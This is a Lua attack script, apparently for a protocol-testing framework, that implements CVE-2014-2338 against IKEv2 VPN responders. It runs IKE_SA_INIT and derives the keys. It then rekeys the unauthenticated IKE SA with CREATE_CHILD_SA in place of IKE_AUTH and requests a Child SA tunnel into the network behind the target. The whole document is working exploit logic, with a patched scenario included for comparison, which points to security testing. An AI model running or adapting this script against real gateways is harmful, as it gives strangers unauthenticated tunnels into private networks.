-- IKE_SA_INIT gives keys to anybody. Who one is, IKE_AUTH says - unless one can go round it: by rekeying the IKE SA before it.
attack = {
  id = "CVE-2014-2338", name = "rekey-before-auth",
  about = "Rekeys an IKE SA that nobody has authenticated, and makes a Child SA under its successor",
  position = "off-path",
  needs = "nothing: no secret, no certificate",
  source = "CVE-2014-2338; RFC 7296, 1.2 and 2.18",
  shows = {
    vulnerable = "the successor is established: a stranger has an IKE SA and a tunnel, without IKE_AUTH",
    hardened = "CREATE_CHILD_SA is not due before IKE_AUTH: there is no answer",
  },
  scenarios = { vulnerable = "rekey-before-auth", hardened = "rekey-before-auth-patched" },
}

-- Parameters: target, own
local p, me, heir = nil, nil, nil
local goal = "have an IKE SA without authentication"
local transforms = { { type = 1, id = 20, key_bits = 256 }, { type = 2, id = 5 }, { type = 4, id = 31 } }

function on_start(params)
  p = params
  assert(p.target and p.own, "parameters target, own")
  timer.after("1s", "begin")
end
local function send(note, payload)
  inject{ src = p.own, src_port = 500, dst = p.target, dst_port = 500, protocol = "IKE", note = note, payload = payload }
end

function on_timer()
  me = { pair = crypto.key_pair("x25519"), nonce = crypto.random(32), spi = bytes.hex(crypto.random(8)) }
  send("IKE_SA_INIT, as anybody may", ike.encode{ spi_i = me.spi, spi_r = "0000000000000000", exchange = 34, initiator = true, message_id = 0,
    payloads = { ike.sa{ number = 1, protocol = 1, spi = "", transforms = transforms }, ike.ke(me.pair), ike.nonce(me.nonce) } })
end

on({ exchange = "IKE_SA_INIT", response = true }, function(_, message)
  if not me or message.spi_i ~= me.spi or me.keys or not find(message, "KE") then return end
  me.spi_r = message.spi_r
  me.suite = ike.suite(find(message, "SA").proposals[1])
  me.keys = ike.keys(me.suite, { ni = me.nonce, nr = find(message, "Ni/Nr").data, shared = crypto.shared(me.pair, find(message, "KE").data),
    spi_i = me.spi, spi_r = me.spi_r })
  ring.ike(me.spi, me.suite, me.keys)
  heir = { pair = crypto.key_pair("x25519"), nonce = crypto.random(32), spi = bytes.hex(crypto.random(8)) }
  send("CREATE_CHILD_SA that rekeys the IKE SA, in the place of IKE_AUTH", ike.seal({ spi_i = me.spi, spi_r = me.spi_r, exchange = 36,
    initiator = true, message_id = 1, payloads = {
      ike.sa{ number = 1, protocol = 1, spi = bytes.from_hex(heir.spi), transforms = transforms }, ike.nonce(heir.nonce), ike.ke(heir.pair) } },
    me.suite, me.keys))
end)

on({ exchange = "CREATE_CHILD_SA", response = true }, function(packet, message)
  local inner = me and ring.open(packet)
  if not inner then return end
  if message.spi_i == me.spi then
    local sa = find(inner, "SA")
    if not sa then return achieved(goal, false, "the rekey was refused") end
    heir.spi_r = bytes.hex(sa.proposals[1].spi)
    heir.keys = ike.keys(me.suite, { ni = heir.nonce, nr = find(inner, "Ni/Nr").data, shared = crypto.shared(heir.pair, find(inner, "KE").data),
      spi_i = heir.spi, spi_r = heir.spi_r, sk_d_old = me.keys.sk_d })
    ring.ike(heir.spi, me.suite, heir.keys)
    learn("SK_*", "all keys of the new IKE SA " .. heir.spi, "a rekey of its own, with the old SK_d", heir.keys.sk_d)
    send("CREATE_CHILD_SA under the successor: a tunnel for a stranger", ike.seal({ spi_i = heir.spi, spi_r = heir.spi_r, exchange = 36,
      initiator = true, message_id = 0, payloads = {
        ike.sa{ number = 1, protocol = 3, spi = crypto.random(4), transforms = { { type = 1, id = 20, key_bits = 256 }, { type = 5, id = 0 } } },
        ike.nonce(crypto.random(32)), ike.ts("i", "10.1.0.0", "10.1.0.255"), ike.ts("r", "10.2.0.0", "10.2.0.255") } }, me.suite, heir.keys))
  elseif heir and message.spi_i == heir.spi and not heir.done then
    heir.done = true
    achieved(goal, true, find(inner, "SA") and "an IKE SA and a Child SA into the network behind it, and nobody asked who it is"
      or "an IKE SA; the Child SA was refused")
  end
end)

function on_finish()
  if not (heir and heir.done) then achieved(goal, false, "no answer to a rekey before IKE_AUTH") end
end
